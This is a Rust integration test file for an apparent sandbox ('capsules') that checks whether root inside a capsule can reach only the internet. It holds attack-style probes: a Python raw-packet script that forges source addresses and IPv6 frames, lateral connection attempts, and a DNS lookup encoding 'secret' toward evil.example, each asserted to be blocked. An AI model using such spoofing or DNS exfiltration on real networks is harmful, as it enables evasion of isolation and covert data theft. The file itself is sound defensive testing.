//! Root in real capsules, who means harm: what it reaches, and what it may reach through all that happens to a capsule.
//!
//! The machine is a network namespace with an internet behind its default route. What the network's own walls keep out, frame
//! by frame, is in `crates/network/src/tests/hostile.rs`; here it is seen that real capsules stand behind them.

use std::fs::File;
use std::io::{Read, Write};
use std::net::{Ipv4Addr, SocketAddr, TcpListener, UdpSocket};
use std::os::fd::AsFd;
use std::process::{Command, Stdio};
use std::sync::mpsc::{Receiver, channel};
use std::thread;

use end_to_end::{Machine, Options, Up};
use reqwest::Method;
use rustix::thread::{LinkNameSpaceType, move_into_link_name_space};
use serde_json::{Value, json};

const MACHINE: &str = "hostile-machine";
const INTERNET: &str = "hostile-internet";
const SERVER: Ipv4Addr = Ipv4Addr::new(198, 51, 100, 7);
/// Where `wrenn up` listens: an address of the machine, and not on its way out.
const API: Ipv4Addr = Ipv4Addr::new(198, 18, 0, 2);

fn sh(line: &str) {
    let output = Command::new("sh").args(["-ec", line]).output().unwrap();
    assert!(output.status.success(), "{line}: {}", String::from_utf8_lossy(&output.stderr));
}

/// Runs `work` on a thread inside a network namespace, and leaves it there.
fn inside<T: Send + 'static>(netns: &str, work: impl FnOnce() -> T + Send + 'static) -> thread::JoinHandle<T> {
    let netns = File::open(format!("/run/netns/{netns}")).unwrap();
    thread::spawn(move || {
        move_into_link_name_space(netns.as_fd(), Some(LinkNameSpaceType::Network)).unwrap();
        work()
    })
}

/// Holds a connection and says when it is gone.
const HOLD: &str = "import socket, sys, time
held = socket.create_connection((sys.argv[1], 80))
print('open', flush=True)
try:
    while True:
        held.sendall(b'x')
        time.sleep(0.05)
except OSError:
    print('cut', flush=True)";

/// A machine and an internet.
struct World;

impl World {
    /// Also hands out what datagrams to the server say.
    fn new() -> (Self, Receiver<String>) {
        // What a run left that was killed.
        for left in [&["netns", "del", MACHINE][..], &["netns", "del", INTERNET], &["link", "del", "hostile-api"]] {
            let _ = Command::new("ip").args(left).stderr(Stdio::null()).status();
        }
        sh(&format!(
            "ip netns add {MACHINE}; ip netns add {INTERNET}
             ip link add hostile-api type veth peer name api0 netns {MACHINE}
             ip addr add 198.18.0.1/30 dev hostile-api; ip link set hostile-api up
             ip -n {MACHINE} addr add {API}/30 dev api0; ip -n {MACHINE} link set api0 up; ip -n {MACHINE} link set lo up
             ip -n {MACHINE} link add up0 type veth peer name eth0 netns {INTERNET}
             ip -n {MACHINE} addr add 192.0.2.1/24 dev up0; ip -n {MACHINE} link set up0 up
             ip -n {MACHINE} route add default via 192.0.2.2
             ip -n {INTERNET} addr add 192.0.2.2/24 dev eth0; ip -n {INTERNET} link set eth0 up
             ip -n {INTERNET} addr add {SERVER}/32 dev lo; ip -n {INTERNET} link set lo up"
        ));
        let listener = inside(INTERNET, || TcpListener::bind((SERVER, 80)).unwrap()).join().unwrap();
        thread::spawn(move || {
            for stream in listener.incoming() {
                let Ok(mut stream) = stream else { return };
                // Answers what is asked of it, and keeps what says nothing.
                thread::spawn(move || {
                    let mut head = [0; 4096];
                    while matches!(stream.read(&mut head), Ok(1..)) {
                        let _ = stream
                            .write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 6\r\nConnection: close\r\n\r\nserved");
                    }
                });
            }
        });
        let (tell, datagrams) = channel();
        let socket = inside(INTERNET, || UdpSocket::bind((SERVER, 5000)).unwrap()).join().unwrap();
        thread::spawn(move || {
            let mut buffer = [0; 100];
            while let Ok((length, _)) = socket.recv_from(&mut buffer) {
                if tell.send(String::from_utf8_lossy(&buffer[..length]).into_owned()).is_err() {
                    return;
                }
            }
        });
        let resolver = resolver();
        let place = if resolver.is_loopback() { MACHINE } else { INTERNET };
        sh(&format!("ip -n {place} addr add {resolver}/32 dev lo 2>/dev/null || true"));
        let socket = inside(place, move || UdpSocket::bind((resolver, 53)).unwrap()).join().unwrap();
        thread::spawn(move || resolve(&socket));
        (Self, datagrams)
    }

    fn up(&self) -> Up {
        Up::with(Options { netns: Some((MACHINE.into(), API)), ..Options::default() })
    }
}

impl Drop for World {
    fn drop(&mut self) {
        // The sockets keep a namespace alive for as long as this process.
        sh(&format!("ip link del hostile-api; ip netns del {MACHINE}; ip netns del {INTERNET}"));
    }
}

/// Whom this host asks, as the agent does.
fn resolver() -> Ipv4Addr {
    let text = std::fs::read_to_string("/etc/resolv.conf").unwrap_or_default();
    let servers = text.lines().filter_map(|line| line.strip_prefix("nameserver ")?.trim().parse().ok());
    servers.into_iter().next().unwrap_or(Ipv4Addr::LOCALHOST)
}

/// Says of every name that it is the server's.
fn resolve(socket: &UdpSocket) {
    let mut buffer = [0; 1500];
    while let Ok((_, from)) = socket.recv_from(&mut buffer) {
        let name = buffer[12..].iter().position(|byte| *byte == 0).unwrap();
        let mut answer = buffer[..12 + name + 5].to_vec();
        answer[2..12].copy_from_slice(&[0x81, 0x80, 0, 1, 0, 1, 0, 0, 0, 0]);
        answer.extend([0xc0, 12, 0, 1, 0, 1, 0, 0, 1, 44, 0, 4]);
        answer.extend(SERVER.octets());
        socket.send_to(&answer, from).unwrap();
    }
}

/// Whether a capsule can open a connection.
async fn reaches(up: &Up, id: &str, to: impl std::fmt::Display, port: u16) -> bool {
    let script = format!("import socket; socket.create_connection(('{to}', {port}), timeout=3)");
    up.sh(id, &format!("python3 -c \"{script}\" 2>/dev/null")).await["exit_code"] == 0
}

/// What a capsule gets by a name.
async fn gets(up: &Up, id: &str, name: &str) -> Value {
    up.sh(id, &format!("curl -s --max-time 20 http://{name}/")).await["stdout"].clone()
}

async fn limit(up: &Up, id: &str, body: Value) {
    let (status, shown) = up.call(Method::PUT, &format!("/v1/capsules/{id}/network"), Some(body)).await;
    assert_eq!(status, 200, "{shown}");
}

/// The address under which the machine has a capsule.
fn host_address(up: &Up, id: &str) -> Ipv4Addr {
    let record = std::fs::read(up.capsules().join(id).join("record.json")).unwrap();
    let record: Value = serde_json::from_slice(&record).unwrap();
    let [high, low] = u16::try_from(record["slot"].as_u64().unwrap()).unwrap().to_be_bytes();
    Ipv4Addr::new(10, 11, high, low)
}

#[tokio::test]
async fn root_in_a_capsule_reaches_the_internet_and_nothing_else() {
    let before = Machine::now();
    let (world, datagrams) = World::new();
    let up = world.up();
    let (attacker, victim) = (up.create().await, up.create().await);
    up.output(&victim, "setsid python3 -m http.server 9000 --bind 0.0.0.0 >/dev/null 2>&1 </dev/null &").await;
    while !reaches(&up, &victim, "127.0.0.1", 9000).await {}
    let victim_at = host_address(&up, &victim);
    let api: SocketAddr = up.url().strip_prefix("http://").unwrap().parse().unwrap();
    assert!(reaches(&up, &attacker, SERVER, 80).await);
    let own = u32::from(host_address(&up, &attacker));
    let gateway = Ipv4Addr::from((10 << 24 | 12 << 16) + 2 * (own & 0xffff));
    for (to, port) in [
        (victim_at, 9000),
        (victim_at, 49983),
        (API, api.port()),
        (Ipv4Addr::new(192, 0, 2, 1), api.port()),
        (Ipv4Addr::new(198, 18, 0, 1), 22),
        (gateway, api.port()),
        (Ipv4Addr::new(169, 254, 0, 22), api.port()),
        (resolver(), 53),
    ] {
        assert!(!reaches(&up, &attacker, to, port).await, "{to}:{port} was reached");
    }
    // By frames of its own making: as another, as nobody, and by IPv6.
    let script = r"
import socket, struct
def packet(source, said):
    udp = struct.pack('!HHHH', 4000, 5000, 8 + len(said), 0) + said
    head = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0, socket.inet_aton(source), socket.inet_aton('198.51.100.7'))
    total = sum(struct.unpack('!10H', head))
    total = (total & 0xffff) + (total >> 16)
    return head[:10] + struct.pack('!H', ~(total + (total >> 16)) & 0xffff) + head[12:] + udp
wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
wire.bind(('eth0', 0))
gateway, own = bytes.fromhex('02fc00000006'), bytes.fromhex('02fc00000005')
for source in ['VICTIM', '203.0.113.9', '10.12.0.5', '127.0.0.1']:
    wire.send(gateway + own + b'\x08\x00' + packet(source, b'evil'))
wire.send(gateway + bytes.fromhex('02000000beef') + b'\x08\x00' + packet('169.254.0.21', b'evil'))
wire.send(b'\x33\x33\0\0\0\1' + own + b'\x86\xdd' + bytes.fromhex('6000000000083aff') + bytes(32) + bytes(8))
wire.send(gateway + own + b'\x08\x00' + packet('169.254.0.21', b'good'))
";
    let script = script.replace("VICTIM", &victim_at.to_string());
    up.output(&attacker, &format!("cat >/tmp/evil.py <<'END'\n{script}\nEND\npython3 /tmp/evil.py")).await;
    let heard = tokio::task::spawn_blocking(move || datagrams.recv_timeout(std::time::Duration::from_secs(20)));
    assert_eq!(heard.await.unwrap().unwrap(), "good");
    drop(up);
    drop(world);
    before.is_back().await;
}

#[tokio::test]
async fn what_a_capsule_may_reach_it_may_reach_whatever_becomes_of_it() {
    let before = Machine::now();
    let (world, _datagrams) = World::new();
    let mut up = world.up();
    let (status, capsule) = up.call(Method::POST, "/v1/capsules", Some(json!({"allow_internet_access": false}))).await;
    assert_eq!(status, 201, "{capsule}");
    let id = capsule["id"].as_str().unwrap().to_owned();
    assert!(!reaches(&up, &id, SERVER, 80).await);

    // Live: what is open is cut when it is not allowed any more.
    limit(&up, &id, json!({})).await;
    up.output(
        &id,
        &format!(
            "cat >/tmp/hold.py <<'END'\n{HOLD}\nEND\nsetsid python3 /tmp/hold.py {SERVER} >/tmp/held 2>&1 </dev/null &"
        ),
    )
    .await;
    up.output(&id, "timeout 20 sh -c 'while ! grep -q open /tmp/held; do sleep 0.05; done'").await;
    limit(&up, &id, json!({"deny_out": ["198.51.100.0/24"]})).await;
    up.output(&id, "timeout 20 sh -c 'while ! grep -q cut /tmp/held; do sleep 0.05; done'").await;
    assert!(!reaches(&up, &id, SERVER, 80).await);

    // A pause and a fork keep it.
    for verb in ["pause", "resume"] {
        let (status, answer) = up.call(Method::POST, &format!("/v1/capsules/{id}/{verb}"), None).await;
        assert_eq!(status, 200, "{answer}");
    }
    assert!(!reaches(&up, &id, SERVER, 80).await);
    let (status, forked) = up.call(Method::POST, &format!("/v1/capsules/{id}/fork"), Some(json!({}))).await;
    assert_eq!(status, 201, "{forked}");
    let child = forked["capsules"][0]["id"].as_str().unwrap().to_owned();
    assert!(!reaches(&up, &child, SERVER, 80).await);
    limit(&up, &child, json!({})).await;
    assert!(reaches(&up, &child, SERVER, 80).await && !reaches(&up, &id, SERVER, 80).await);
    up.destroy(&child).await;

    // Names: by TLS or HTTP, to the addresses that DNS told, and DNS tells nothing else.
    limit(&up, &id, json!({"allow_internet_access": false, "allow_out": ["allowed.example", "*.wide.example"]})).await;
    let names = async |up: &Up| {
        assert_eq!(gets(up, &id, "allowed.example").await, "served");
        assert_eq!(gets(up, &id, "a.wide.example").await, "served");
        assert_eq!(gets(up, &id, "evil.example").await, "");
        assert_eq!(gets(up, &id, &SERVER.to_string()).await, "");
        let dig = "import socket\ntry: print(socket.gethostbyname('c2VjcmV0.evil.example'))\nexcept OSError: print('refused')";
        assert_eq!(up.output(&id, &format!("python3 -c \"{dig}\"")).await, "refused");
    };
    names(&up).await;
    // An agent that is killed takes its filter with it: nothing passes until the next one has started it again.
    up.kill();
    up.restart();
    names(&up).await;
    let shown = up.call(Method::GET, &format!("/v1/capsules/{id}"), None).await.1;
    assert_eq!(shown["network"]["allow_out"], json!(["allowed.example", "*.wide.example"]));
    limit(&up, &id, json!({})).await;
    assert_eq!(gets(&up, &id, &SERVER.to_string()).await, "served");
    drop(up);
    drop(world);
    before.is_back().await;
}
